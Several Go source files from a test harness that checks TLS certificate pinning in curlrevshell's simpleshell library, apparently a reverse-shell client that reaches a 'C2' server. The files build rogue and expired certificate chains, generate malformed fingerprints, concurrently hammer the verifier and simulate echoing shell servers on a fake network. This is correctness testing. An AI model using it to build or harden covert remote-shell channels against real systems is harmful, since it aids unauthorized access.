		if tok := tokens[f.ID]; tok != "" && strings.Contains(lowOut, strings.ToLower(tok)) {
			out = append(out, f.ID+"[value]")
			continue
		}
		for _, w := range causeWords(f.ID) {
			if strings.Contains(lowOut, w) {
				out = append(out, f.ID+"[word:"+w+"]")
				break
			}
		}
	}
	sort.Strings(out)
	return out
}
