package pinsim

import (
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"sync"
	"sync/atomic"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
)

// The verifier hammer is a side check outside the macro-step schedule.
// simpleshell.TLSFingerprintVerifier is exported; the function it returns is
// installed as tls.Config.VerifyConnection and so may be called for several
// handshakes at once.  For one or two of the run's pinned fingerprints the
// harness obtains one verifier and calls it from several real goroutines,
// with a chain that holds the pinned key (must be accepted every time) and a
// chain that does not (must be refused every time).  The verdict does not
// depend on the schedule: whatever the interleaving, a wrong answer is wrong.

// Invariant and signatures of the side check.
const (
	InvVerifier        = "verifier-safe-for-concurrent-use"
	SigVerifierRefused = "concurrent use of one verifier refused the pinned key"
	SigVerifierAccept  = "concurrent use of one verifier accepted a wrong key"
	SigVerifierPanic   = "concurrent use of one verifier panicked"
)

const hammerGoroutines = 4

// hammer runs after the bubble.  iters is the number of iterations per
// goroutine (each iteration asks about both chains).
func (s *sim) hammer(iters int) {
	if iters <= 0 {
		return
	}
	seen := map[string]bool{}
	n := 0
	for _, a := range s.done {
		if a.Op != "start" || n >= 2 {
			continue
		}
		fp, err := spell(a.FP, a.V, s.servers[a.Of], a.Pos)
		if err != nil || seen[fp] {
			continue
		}
		class, h := classify(fp)
		if class != clsPinned {
			continue
		}
		seen[fp] = true
		n++
		s.hammerOne(a.Call, fp, h, iters)
	}
}

func (s *sim) hammerOne(k int, fp string, h [32]byte, iters int) {
	// the chain with the key: the longest one any server presents; the chain
	// without: the longest that lacks it, or failing that the prehistory's
	var good, bad []*x509.Certificate
	for _, sv := range s.servers {
		if len(sv.hasKey(h)) > 0 {
			if len(sv.chain) > len(good) {
				good = sv.chain
			}
		} else if len(sv.chain) > len(bad) {
			bad = sv.chain
		}
	}
	if bad == nil {
		c, err := makeCert("pinsim canary", poolSize, poolSize, nil, false, []string{canaryHost}, false)
		if err != nil {
			return
		}
		bad = []*x509.Certificate{c}
	}
	v, err := simpleshell.TLSFingerprintVerifier(fp)
	if err != nil || v == nil {
		return // a well-formed fingerprint refused: the histories' business
	}
	csGood, csBad := tls.ConnectionState{PeerCertificates: good}, tls.ConnectionState{PeerCertificates: bad}
	// one caller at a time first: a verifier that is wrong even then is
	// another defect, which the histories judge
	if good != nil && v(csGood) != nil || v(csBad) == nil {
		s.trace = append(s.trace, fmt.Sprintf("verifier hammer: call %d's fingerprint: skipped, wrong answer from a single caller", k))
		return
	}
	var refused, accepted, panics atomic.Int64
	var panicText atomic.Value
	start := make(chan struct{})
	var wg sync.WaitGroup
	for g := 0; g < hammerGoroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			<-start
			for i := 0; i < iters; i++ {
				if refused.Load()+accepted.Load()+panics.Load() > 0 {
					return // one wrong answer settles it
				}
				func() {
					defer func() {
						if r := recover(); r != nil {
							panics.Add(1)
							panicText.Store(fmt.Sprint(r))
						}
					}()
					// half the goroutines start with the other chain
					for j := 0; j < 2; j++ {
						if (g+j)%2 == 0 {
							if good != nil && v(csGood) != nil {
								refused.Add(1)
							}
						} else if v(csBad) == nil {
							accepted.Add(1)
						}
					}
				}()
			}
		}(g)
	}
	close(start)
	wg.Wait()
	s.probes["verifier_hammers"]++
	s.probes["verifier_hammer_calls"] += int64(hammerGoroutines * iters * 2)
	chains := "a chain holding the key and a chain without"
	if good == nil {
		chains = "a chain without that key (no server has it)"
	}
	what := fmt.Sprintf("one verifier for call %d's fingerprint (%s), called from %d goroutines x %d iterations with %s",
		k, keyName(h), hammerGoroutines, iters, chains)
	switch {
	case panics.Load() > 0:
		s.violate(InvVerifier, SigVerifierPanic, "%s: %d calls panicked (%v)", what, panics.Load(), panicText.Load())
	case accepted.Load() > 0:
		s.violate(InvVerifier, SigVerifierAccept, "%s: the chain without the key was accepted %d times (and the chain with it refused %d times); a single caller got the right answers", what, accepted.Load(), refused.Load())
	case refused.Load() > 0:
		s.violate(InvVerifier, SigVerifierRefused, "%s: the chain with the key was refused %d times; a single caller got the right answers", what, refused.Load())
	}
	ok := panics.Load() == 0 && accepted.Load() == 0 && refused.Load() == 0
	s.trace = append(s.trace, fmt.Sprintf("verifier hammer: call %d's fingerprint: right answers throughout: %v", k, ok))
}
