package pinsim

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
)

// fpKinds are the fingerprint spellings an action may ask for.
var fpKinds = []string{"empty", "plain", "prefix", "unpadded", "short", "long", "garbage", "hex", "flip", "certhash"}

// spell produces the Fingerprint string for a start action from the key (and
// certificate) server `of` presents at chain position pos.
func spell(kind string, v int, of *server, pos int) (string, error) {
	pos %= len(of.chain)
	h := spkiHash(of.chain[pos])
	plain := base64.StdEncoding.EncodeToString(h[:])
	pre := ""
	switch kind {
	case "empty":
		return "", nil
	case "plain":
		return plain, nil
	case "prefix":
		return "sha256//" + plain, nil
	case "unpadded":
		if v&1 == 1 {
			pre = "sha256//"
		}
		return pre + strings.TrimRight(plain, "="), nil
	case "short":
		if v&1 == 1 {
			pre = "sha256//"
		}
		return pre + base64.StdEncoding.EncodeToString(h[:31]), nil
	case "long":
		if v&1 == 1 {
			pre = "sha256//"
		}
		return pre + base64.StdEncoding.EncodeToString(append(h[:], byte(v>>1))), nil
	case "garbage":
		switch v % 5 {
		case 0:
			return "!!! not base64 !!!", nil
		case 1:
			i := (v / 5) % 43
			return plain[:i] + "*" + plain[i+1:], nil
		case 2:
			return "sha256//", nil
		case 3:
			return "sha256//sha256//" + plain, nil
		default:
			return plain + plain, nil
		}
	case "hex":
		if v&1 == 1 {
			pre = "sha256//"
		}
		return pre + hex.EncodeToString(h[:]), nil
	case "flip":
		if v&256 != 0 {
			pre = "sha256//"
		}
		h[(v/8)%32] ^= 1 << (v % 8)
		return pre + base64.StdEncoding.EncodeToString(h[:]), nil
	case "certhash":
		// the hash of the whole certificate instead of its public key: a
		// well-formed fingerprint of no key at all
		ch := sha256.Sum256(of.chain[pos].Raw)
		return base64.StdEncoding.EncodeToString(ch[:]), nil
	}
	return "", fmt.Errorf("unknown fingerprint kind %q", kind)
}

// Classes of configured fingerprints, decided by the oracle from the string
// alone.
const (
	clsUnpinned  = "unpinned"  // empty: ordinary certificate validation
	clsPinned    = "pinned"    // canonical base64 of 32 bytes, with or without sha256//
	clsLenient   = "lenient"   // 32 bytes only under a laxer reading (padding left off): the statement allows refusing it or honouring it
	clsMalformed = "malformed" // anything else
)

// classify is the oracle's reading of a Fingerprint string.
func classify(fp string) (string, [32]byte) {
	var h [32]byte
	if fp == "" {
		return clsUnpinned, h
	}
	t := strings.TrimPrefix(fp, "sha256//")
	if b, err := base64.StdEncoding.Strict().DecodeString(t); err == nil && len(b) == 32 && !strings.ContainsAny(t, "\r\n") {
		copy(h[:], b)
		return clsPinned, h
	}
	for _, enc := range []*base64.Encoding{base64.RawStdEncoding, base64.StdEncoding} {
		if b, err := enc.DecodeString(t); err == nil && len(b) == 32 {
			copy(h[:], b)
			return clsLenient, h
		}
	}
	return clsMalformed, h
}
