package pinsim

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math/big"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// poolSize is the number of server keys one worker process draws from.
const poolSize = 24

type poolKey struct {
	priv *ecdsa.PrivateKey
	hash [32]byte // sha256 of the SubjectPublicKeyInfo DER
}

var (
	poolOnce sync.Once
	pool     []*poolKey
	poolErr  error

	certMu    sync.Mutex
	certCache = map[string]*x509.Certificate{}
)

// keyPool generates the process's key pool once (outside any bubble).
func keyPool() ([]*poolKey, error) {
	poolOnce.Do(func() {
		// one more than the cases draw from: the last is the prehistory's
		for i := 0; i <= poolSize; i++ {
			k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
			if err != nil {
				poolErr = err
				return
			}
			spki, err := x509.MarshalPKIXPublicKey(&k.PublicKey)
			if err != nil {
				poolErr = err
				return
			}
			pool = append(pool, &poolKey{priv: k, hash: sha256.Sum256(spki)})
		}
	})
	return pool, poolErr
}

// Certificates live in the fake clock's world: a bubble starts at midnight
// UTC 2000-01-01.
var (
	notBefore    = time.Date(1990, 1, 1, 0, 0, 0, 0, time.UTC)
	notAfter     = time.Date(2090, 1, 1, 0, 0, 0, 0, time.UTC)
	notAfterPast = time.Date(1995, 1, 1, 0, 0, 0, 0, time.UTC)
)

// makeCert returns (cached) a certificate for pool key subj signed by pool
// key iss.  parent == nil makes it self-signed.
func makeCert(cn string, subj, iss int, parent *x509.Certificate, ca bool, dns []string, expired bool) (*x509.Certificate, error) {
	pcn := ""
	if parent != nil {
		pcn = parent.Subject.CommonName
	}
	key := fmt.Sprintf("%s|%d|%d|%s|%v|%v|%v", cn, subj, iss, pcn, ca, dns, expired)
	certMu.Lock()
	if c := certCache[key]; c != nil {
		certMu.Unlock()
		return c, nil
	}
	certMu.Unlock()
	na := notAfter
	if expired {
		na = notAfterPast
	}
	tmpl := &x509.Certificate{
		SerialNumber:          new(big.Int).SetUint64(simkit.Hash64(key) >> 1),
		Subject:               pkix.Name{CommonName: cn},
		NotBefore:             notBefore,
		NotAfter:              na,
		BasicConstraintsValid: true,
		IsCA:                  ca,
		DNSNames:              dns,
	}
	if ca {
		tmpl.KeyUsage = x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature
	} else {
		tmpl.KeyUsage = x509.KeyUsageDigitalSignature
		tmpl.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}
	}
	p := parent
	if p == nil {
		p = tmpl
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, p, &pool[subj].priv.PublicKey, pool[iss].priv)
	if err != nil {
		return nil, err
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, err
	}
	certMu.Lock()
	if len(certCache) > 20000 {
		certCache = map[string]*x509.Certificate{}
	}
	certCache[key] = c
	certMu.Unlock()
	return c, nil
}

// ServerSpec describes one simulated server's certificate chain.
//
//	self      one self-signed leaf
//	rogue     leaf [<- intermediate] <- self-signed root unknown to the client (all presented)
//	valid     leaf [<- intermediate] <- harness root, right host names
//	wronghost like valid, but the leaf names another host
//	expired   like valid, but the leaf expired before the fake clock's epoch
//
// Keys are pool indices, leaf first.  SendRoot appends the harness root to
// what a valid/wronghost/expired server presents.
type ServerSpec struct {
	Kind     string `json:"kind"`
	Keys     []int  `json:"keys"`
	SendRoot bool   `json:"send_root,omitempty"`
}

type server struct {
	n      int
	spec   ServerSpec
	chain  []*x509.Certificate // as presented, leaf first
	keyIdx []int
	roles  []string // leaf | intermediate | root
	cert   tls.Certificate
	valid  bool // ordinary validation succeeds for the calls' own host names (c<call>.srv<n>.test)
	// validShared: ordinary validation succeeds for the server's own host name
	// (srv<n>.test)
	validShared bool
}

func hostOf(call, srv int) string { return fmt.Sprintf("c%d.srv%d.test", call, srv) }

// sharedHostOf is the host name of server srv that calls share.
func sharedHostOf(srv int) string { return fmt.Sprintf("srv%d.test", srv) }

// validFor reports whether ordinary certificate validation of sv succeeds for
// the host name call c uses.
func (sv *server) validFor(c *call) bool {
	if c.act.Host == hostServer {
		return sv.validShared
	}
	return sv.valid
}

func harnessRoot(rootKey int) (*x509.Certificate, error) {
	return makeCert("pinsim harness root", rootKey, rootKey, nil, true, nil, false)
}

// buildServer makes server n's chain.
func buildServer(n int, spec ServerSpec, rootKey int, roots *x509.CertPool) (*server, error) {
	if len(spec.Keys) == 0 || len(spec.Keys) > 3 {
		return nil, fmt.Errorf("server %d: %d keys", n, len(spec.Keys))
	}
	for _, k := range spec.Keys {
		if k < 0 || k >= poolSize {
			return nil, fmt.Errorf("server %d: key %d", n, k)
		}
	}
	sv := &server{n: n, spec: spec}
	dns := []string{fmt.Sprintf("srv%d.test", n), fmt.Sprintf("*.srv%d.test", n)}
	var err error
	var top *x509.Certificate // issuer of the lowest CA made so far
	topKey := -1
	var cas []*x509.Certificate // from the top down
	var caKeys []int
	harness := false
	switch spec.Kind {
	case "self":
		if len(spec.Keys) != 1 {
			return nil, fmt.Errorf("server %d: self with %d keys", n, len(spec.Keys))
		}
	case "rogue":
		if len(spec.Keys) < 2 {
			return nil, fmt.Errorf("server %d: rogue with %d keys", n, len(spec.Keys))
		}
		rk := spec.Keys[len(spec.Keys)-1]
		if top, err = makeCert(fmt.Sprintf("pinsim srv%d rogue root", n), rk, rk, nil, true, nil, false); err != nil {
			return nil, err
		}
		topKey = rk
		cas, caKeys = append(cas, top), append(caKeys, rk)
	case "valid", "wronghost", "expired":
		if len(spec.Keys) > 2 {
			return nil, fmt.Errorf("server %d: %s with %d keys", n, spec.Kind, len(spec.Keys))
		}
		if top, err = harnessRoot(rootKey); err != nil {
			return nil, err
		}
		topKey = rootKey
		harness = true
		if spec.SendRoot {
			cas, caKeys = append(cas, top), append(caKeys, rootKey)
		}
	default:
		return nil, fmt.Errorf("server %d: kind %q", n, spec.Kind)
	}
	// intermediates: every key between the leaf and the top
	last := len(spec.Keys)
	if spec.Kind == "rogue" {
		last--
	}
	for i := last - 1; i >= 1; i-- {
		k := spec.Keys[i]
		ic, err := makeCert(fmt.Sprintf("pinsim srv%d ca%d", n, i), k, topKey, top, true, nil, false)
		if err != nil {
			return nil, err
		}
		top, topKey = ic, k
		cas, caKeys = append(cas, ic), append(caKeys, k)
	}
	if spec.Kind == "wronghost" {
		dns = []string{fmt.Sprintf("srv%d.example", n)}
	}
	lk := spec.Keys[0]
	var leaf *x509.Certificate
	if top == nil {
		leaf, err = makeCert(fmt.Sprintf("pinsim srv%d leaf", n), lk, lk, nil, false, dns, false)
	} else {
		leaf, err = makeCert(fmt.Sprintf("pinsim srv%d leaf", n), lk, topKey, top, false, dns, spec.Kind == "expired")
	}
	if err != nil {
		return nil, err
	}
	sv.chain, sv.keyIdx, sv.roles = []*x509.Certificate{leaf}, []int{lk}, []string{"leaf"}
	for i := len(cas) - 1; i >= 0; i-- {
		role := "intermediate"
		if i == 0 && (spec.Kind == "rogue" || (harness && spec.SendRoot)) {
			role = "root"
		}
		sv.chain, sv.keyIdx, sv.roles = append(sv.chain, cas[i]), append(sv.keyIdx, caKeys[i]), append(sv.roles, role)
	}
	sv.cert = tls.Certificate{PrivateKey: pool[lk].priv, Leaf: leaf}
	for _, c := range sv.chain {
		sv.cert.Certificate = append(sv.cert.Certificate, c.Raw)
	}
	// the oracle's notion of "ordinary certificate validation": the presented
	// chain verifies against the harness roots for the host name in use, at
	// the fake clock's epoch
	inter := x509.NewCertPool()
	for _, c := range sv.chain[1:] {
		inter.AddCert(c)
	}
	_, verr := leaf.Verify(x509.VerifyOptions{
		DNSName:       hostOf(1, n),
		Roots:         roots,
		Intermediates: inter,
		CurrentTime:   time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC),
	})
	sv.valid = verr == nil
	_, verr = leaf.Verify(x509.VerifyOptions{
		DNSName:       sharedHostOf(n),
		Roots:         roots,
		Intermediates: inter,
		CurrentTime:   time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC),
	})
	sv.validShared = verr == nil
	return sv, nil
}

// spkiHash is the oracle's own pin computation: SHA-256 over the DER
// SubjectPublicKeyInfo the certificate carries.
func spkiHash(c *x509.Certificate) [32]byte { return sha256.Sum256(c.RawSubjectPublicKeyInfo) }

// hasKey reports at which chain positions sv presents a key hashing to h.
func (sv *server) hasKey(h [32]byte) []int {
	var at []int
	for i, c := range sv.chain {
		if spkiHash(c) == h {
			at = append(at, i)
		}
	}
	return at
}
