package pinsim

import (
	"encoding/json"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Config is what is fixed in a run.
type Config struct {
	Servers []ServerSpec `json:"servers"`
	RootKey int          `json:"root_key"` // pool key of the harness root CA
	Frag    int          `json:"frag"`     // network reads return 1..frag bytes (0 = whole)
	NetSeed uint64       `json:"net_seed"`
	// Hammer is the iteration count of the concurrent-verifier side check
	// (0 = none); replays multiply it
	Hammer int `json:"hammer,omitempty"`
}

// Action is one macro-step.
//
//	start  begin call Call against server Server with the fingerprint spelled
//	       FP (variant V) from the key server Of presents at chain position Pos
//	feed   send call Call's next token on its shell output
//	end    close call Call's output and release its shell
//	release let call Call, parked in Shell.Output (hold_output), go on to connect
//	reset  reset call Call's network connections (fault)
//	sleep  advance the fake clock by Ms
type Action struct {
	Op     string `json:"op"`
	Call   int    `json:"call,omitempty"`
	Server int    `json:"server,omitempty"`
	FP     string `json:"fp,omitempty"`
	Of     int    `json:"of,omitempty"`
	Pos    int    `json:"pos,omitempty"`
	V      int    `json:"v,omitempty"`
	Ms     int    `json:"ms,omitempty"`
	// URL (start): how C2 is spelled: "" https://..., "upper" HTTPS://...,
	// "mixed" Https://..., "redir" http://... on a plain-HTTP hop that answers
	// 302 with the https URL
	URL string `json:"url,omitempty"`
	// HoldOutput (start): the call's Shell.Output parks until a release action
	HoldOutput bool `json:"hold_output,omitempty"`
	// Host (start): the host name in C2: "" a name of the call's own
	// (c<call>.srv<server>.test), "server" the server's own name
	// (srv<server>.test, default port), which every such call to that server
	// shares, as the calls of a process to one curlrevshell do
	Host string `json:"host,omitempty"`
}

// hostServer is Action.Host for the server's own name.
const hostServer = "server"

func (a Action) String() string {
	b, _ := json.Marshal(a)
	return string(b)
}

// genCase draws a configuration and a history of overlapping calls.
func genCase(rng *simkit.RNG) (Config, []Action) {
	var cfg Config
	cfg.NetSeed = rng.Uint64()
	if rng.Chance(1, 4) {
		// the side check costs about as much as two histories
		cfg.Hammer = 300
	}
	cfg.Frag = []int{0, 0, 0, 0, 1000, 100, 7}[rng.Intn(7)]
	cfg.RootKey = rng.Intn(poolSize)
	nsrv := rng.Range(4, 10)
	var used []int
	draw := func(avoid []int) int {
		for {
			var k int
			if len(used) > 0 && rng.Chance(1, 4) {
				k = used[rng.Intn(len(used))]
			} else {
				k = rng.Intn(poolSize)
			}
			ok := true
			for _, a := range avoid {
				if a == k {
					ok = false
				}
			}
			if ok {
				return k
			}
		}
	}
	nvalid := rng.Range(1, 2)
	for n := 0; n < nsrv; n++ {
		var sp ServerSpec
		switch {
		case n < nvalid:
			sp.Kind = "valid"
		case n == nvalid && rng.Chance(1, 3):
			sp.Kind = "wronghost"
		case n == nvalid+1 && rng.Chance(1, 3):
			sp.Kind = "expired"
		default:
			sp.Kind = "rogue"
		}
		nk := 0
		switch sp.Kind {
		case "rogue":
			nk = rng.Range(1, 3)
			if nk == 1 {
				sp.Kind = "self"
			}
		default:
			nk = rng.Range(1, 2)
			sp.SendRoot = rng.Chance(1, 2)
		}
		avoid := []int{}
		if sp.Kind != "rogue" && sp.Kind != "self" {
			avoid = append(avoid, cfg.RootKey)
		}
		for i := 0; i < nk; i++ {
			k := draw(avoid)
			sp.Keys = append(sp.Keys, k)
			avoid = append(avoid, k)
		}
		used = append(used, sp.Keys...)
		cfg.Servers = append(cfg.Servers, sp)
	}
	// the servers' places are shuffled so that "the valid one" is not always 0
	rng.Shuffle(len(cfg.Servers), func(i, j int) { cfg.Servers[i], cfg.Servers[j] = cfg.Servers[j], cfg.Servers[i] })
	chainLen := func(n int) int {
		sp := cfg.Servers[n]
		l := len(sp.Keys)
		if sp.SendRoot {
			l++
		}
		return l
	}
	var validSrv []int
	for n, sp := range cfg.Servers {
		if sp.Kind == "valid" {
			validSrv = append(validSrv, n)
		}
	}

	ncalls := rng.Range(2, 12)
	resets := rng.Chance(1, 4)
	maxAlive := rng.Range(1, 4)
	var acts []Action
	var alive []int
	var held []int // started with hold_output and not released yet
	var targets []int
	holds := rng.Chance(2, 3) // whether this run parks calls in Output at all
	// how many of the run's calls (in quarters) name their server by its own
	// host name, so that calls share a host name and port
	shareW := []int{0, 1, 3, 4}[rng.Intn(4)]
	// earlier starts whose own configuration lets them through (a pin the
	// target presents, or no pin and a chain that validates): a later call to
	// the same host with a pin the target does not present is the sequence
	// "trusted once, so trusted again?"
	var good []Action
	unhold := func(k int) {
		for i, h := range held {
			if h == k {
				held = append(held[:i], held[i+1:]...)
				return
			}
		}
	}
	started := 0
	for len(acts) < 90 && (started < ncalls || len(alive) > 0) {
		w := []int{0, 0, 0, 1, 0, 0} // start feed end sleep reset release
		if len(held) > 0 {
			w[5] = 5
		}
		if started < ncalls {
			if len(alive) < maxAlive {
				w[0] = 8
			} else {
				w[0] = 1
			}
		}
		if len(alive) > 0 {
			w[1] = 4
			w[2] = 3
			if started == ncalls {
				w[2] = 8
			}
			if resets {
				w[4] = 1
			}
		}
		switch rng.Pick(w) {
		case 0:
			started++
			a := Action{Op: "start", Call: started}
			switch {
			case len(targets) > 0 && rng.Chance(2, 5):
				a.Server = targets[rng.Intn(len(targets))]
			case rng.Chance(1, 4):
				a.Server = validSrv[rng.Intn(len(validSrv))]
			default:
				a.Server = rng.Intn(nsrv)
			}
			targets = append(targets, a.Server)
			//                  empty plain prefix unpadded short long garbage hex flip certhash
			kw := []int{5, 5, 5, 1, 1, 1, 1, 1, 2, 1}
			a.FP = fpKinds[rng.Pick(kw)]
			a.Of = a.Server
			if a.FP != "empty" {
				if rng.Chance(3, 10) {
					a.Of = rng.Intn(nsrv)
				}
				a.Pos = rng.Intn(chainLen(a.Of))
				switch a.FP {
				case "flip":
					a.V = rng.Intn(512)
				case "garbage":
					a.V = rng.Intn(5 * 43)
				case "long":
					a.V = rng.Intn(512)
				case "unpadded", "short", "hex":
					a.V = rng.Intn(2)
				}
			}
			if shareW > 0 && rng.Chance(shareW, 4) {
				a.Host = hostServer
			}
			if len(good) > 0 && rng.Chance(1, 4) {
				// the same host again, now with the pin of a key another server
				// presents (mostly) or a near miss of the target's own
				g := good[rng.Intn(len(good))]
				a.Server, a.Host = g.Server, g.Host
				targets[len(targets)-1] = a.Server
				a.FP, a.V = []string{"plain", "prefix"}[rng.Intn(2)], 0
				a.Of = rng.Intn(nsrv)
				if a.Of == a.Server || rng.Chance(1, 5) {
					a.Of, a.FP, a.V = a.Server, "flip", rng.Intn(512)
				}
				a.Pos = rng.Intn(chainLen(a.Of))
			} else if a.Of == a.Server && (a.FP == "plain" || a.FP == "prefix" || (a.FP == "empty" && cfg.Servers[a.Server].Kind == "valid")) {
				good = append(good, a)
			}
			a.URL = []string{"", "", "", "", "", "", "upper", "upper", "mixed", "redir", "redir"}[rng.Intn(11)]
			if holds && rng.Chance(1, 2) {
				a.HoldOutput = true
				held = append(held, started)
			}
			acts = append(acts, a)
			alive = append(alive, started)
		case 1:
			acts = append(acts, Action{Op: "feed", Call: alive[rng.Intn(len(alive))]})
		case 2:
			i := rng.Intn(len(alive))
			acts = append(acts, Action{Op: "end", Call: alive[i]})
			unhold(alive[i])
			alive = append(alive[:i], alive[i+1:]...)
		case 3:
			ms := []int{1, 50, 1000, 11000, 95000, 200000}[rng.Intn(6)]
			acts = append(acts, Action{Op: "sleep", Ms: ms})
		case 4:
			acts = append(acts, Action{Op: "reset", Call: alive[rng.Intn(len(alive))]})
		case 5:
			// in either order: not necessarily the one parked longest
			k := held[rng.Intn(len(held))]
			acts = append(acts, Action{Op: "release", Call: k})
			unhold(k)
		}
	}
	return cfg, acts
}
