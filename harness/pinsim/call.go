package pinsim

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/simnet"
)

// call is one invocation of simpleshell.Go.
type call struct {
	s      *sim
	k      int
	act    Action
	fp     string
	class  string
	hash   [32]byte
	target *server
	host   string
	url    string

	out     *outPipe
	release chan struct{}
	hold    chan struct{} // non-nil: Output parks on it until the plan releases the call

	// written by the code's goroutines
	mu        sync.Mutex
	outputs   int // times Output was called
	parked    bool
	connected bool
	returned  bool
	err       error
	recv      []byte
	recvEOF   bool

	// simulator's view
	allowed      bool
	overlapped   bool
	afterPinned  bool
	sawConnected bool
	sawParked    bool
	outReleased  bool // hold has been closed
	sawReturned  bool
	ended        bool
	judged       bool
	faulted      bool // a reset was injected: success is no longer owed
	redirected   bool // reaches its server through a 302: the client drops the body, no token is owed
	dials        int
	conns        []*simnet.Conn
	fed          int
	owed         []string // tokens fed while the call was connected and unfaulted
}

// outPipe is the shell's output: like an io.Pipe, but writes never block
// (io.Pipe serialises writers with a sync.Mutex held across a blocking
// operation, which a bubble cannot see through).
type outPipe struct {
	mu      sync.Mutex
	buf     []byte
	wclosed bool
	rclosed bool
	wake    chan struct{}
	rdone   chan struct{}
}

func newOutPipe() *outPipe { return &outPipe{wake: make(chan struct{}, 1), rdone: make(chan struct{})} }

func (p *outPipe) signal() {
	select {
	case p.wake <- struct{}{}:
	default:
	}
}

// Read implements io.Reader.
func (p *outPipe) Read(b []byte) (int, error) {
	for {
		p.mu.Lock()
		switch {
		case p.rclosed:
			p.mu.Unlock()
			return 0, io.ErrClosedPipe
		case len(p.buf) > 0:
			n := copy(b, p.buf)
			p.buf = p.buf[n:]
			p.mu.Unlock()
			return n, nil
		case p.wclosed:
			p.mu.Unlock()
			return 0, io.EOF
		}
		p.mu.Unlock()
		select {
		case <-p.wake:
		case <-p.rdone:
		}
	}
}

// Close implements io.Closer (the reading side's).
func (p *outPipe) Close() error {
	p.mu.Lock()
	if !p.rclosed {
		p.rclosed = true
		close(p.rdone)
	}
	p.mu.Unlock()
	return nil
}

func (p *outPipe) write(b []byte) {
	p.mu.Lock()
	p.buf = append(p.buf, b...)
	p.mu.Unlock()
	p.signal()
}

func (p *outPipe) closeWrite() {
	p.mu.Lock()
	p.wclosed = true
	p.mu.Unlock()
	p.signal()
}

// shellImpl is the harness's simpleshell.Shell.
type shellImpl struct{ c *call }

var _ simpleshell.Shell = shellImpl{}

func (sh shellImpl) SetInput(in io.Reader) {
	c := sh.c
	// the reader of what the server sends: runs until the body ends
	go func() {
		buf := make([]byte, 4096)
		for {
			n, err := in.Read(buf)
			c.mu.Lock()
			c.recv = append(c.recv, buf[:n]...)
			if err != nil {
				c.recvEOF = true
				c.mu.Unlock()
				return
			}
			c.mu.Unlock()
		}
	}()
}

func (sh shellImpl) Output() io.ReadCloser {
	sh.c.mu.Lock()
	sh.c.outputs++
	sh.c.parked = sh.c.hold != nil
	sh.c.mu.Unlock()
	if sh.c.hold != nil {
		// simpleshell.Go asks for the output after it has prepared its client
		// and before it connects: parking here lets other calls be set up in
		// between
		<-sh.c.hold
		sh.c.mu.Lock()
		sh.c.parked = false
		sh.c.mu.Unlock()
	}
	return sh.c.out
}

func (sh shellImpl) Go(ctx context.Context) error {
	c := sh.c
	c.mu.Lock()
	c.connected = true
	c.mu.Unlock()
	<-c.release
	return nil
}

func (sh shellImpl) String() string { return fmt.Sprintf("call %d", sh.c.k) }

// ---- servers -------------------------------------------------------------

// seen is what one server's handler saw of one call.
type seen struct {
	reqs []string // "METHOD path"
	body []byte
}

type srvEvent struct {
	srv   int
	call  int
	what  string // req | body
	text  string
	bytes int
	// resumed: the request came over a TLS session resumed from an earlier
	// connection's (only code that keeps a session cache can get there)
	resumed bool
	// conn is the serial of the network connection the request came over
	conn int
}

// handler is the simulated curlrevshell: it records every request and every
// body byte with the call they carry in their URL, and echoes.
type handler struct {
	s  *sim
	sv *server
}

func callOfRequest(r *http.Request) int {
	if k, err := strconv.Atoi(r.URL.Query().Get("call")); err == nil {
		return k
	}
	// a request without the query: fall back on the host name
	h := r.Host
	if i := strings.IndexByte(h, '.'); i > 1 && h[0] == 'c' {
		if k, err := strconv.Atoi(h[1:i]); err == nil {
			return k
		}
	}
	return -1
}

func (h handler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	k := callOfRequest(r)
	serial := 0
	if a, ok := r.Context().Value(http.LocalAddrContextKey).(simnet.Addr); ok {
		serial = a.Serial
	}
	h.s.srvSaw(srvEvent{srv: h.sv.n, call: k, what: "req", text: r.Method + " " + r.URL.Path, resumed: r.TLS != nil && r.TLS.DidResume, conn: serial})
	rc := http.NewResponseController(w)
	stream := r.URL.Path == simpleshell.IOPath
	if stream {
		_ = rc.EnableFullDuplex()
		w.WriteHeader(http.StatusOK)
		_ = rc.Flush()
	}
	buf := make([]byte, 4096)
	for {
		n, err := r.Body.Read(buf)
		if n > 0 {
			h.s.srvSawBody(h.sv.n, k, buf[:n])
			if stream {
				_, _ = w.Write(buf[:n])
				_ = rc.Flush()
			}
		}
		if err != nil {
			break
		}
	}
	if !stream {
		http.NotFound(w, r)
	}
}

func (s *sim) srvSaw(e srvEvent) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.events = append(s.events, e)
	sn := s.seenOf(e.srv, e.call)
	sn.reqs = append(sn.reqs, e.text)
}

func (s *sim) srvSawBody(srv, k int, b []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	sn := s.seenOf(srv, k)
	sn.body = append(sn.body, b...)
	// consecutive pieces of one body are one event
	if n := len(s.events); n > 0 && s.events[n-1].what == "body" && s.events[n-1].srv == srv && s.events[n-1].call == k {
		s.events[n-1].bytes += len(b)
		return
	}
	s.events = append(s.events, srvEvent{srv: srv, call: k, what: "body", bytes: len(b)})
}

// seenOf must be called with s.mu held.
func (s *sim) seenOf(srv, k int) *seen {
	key := [2]int{srv, k}
	sn := s.seen[key]
	if sn == nil {
		sn = &seen{}
		s.seen[key] = sn
	}
	return sn
}

// success reports whether call c demonstrably exchanged shell traffic with
// its server: its request reached the handler, its shell ran, and every token
// owed went there and back.
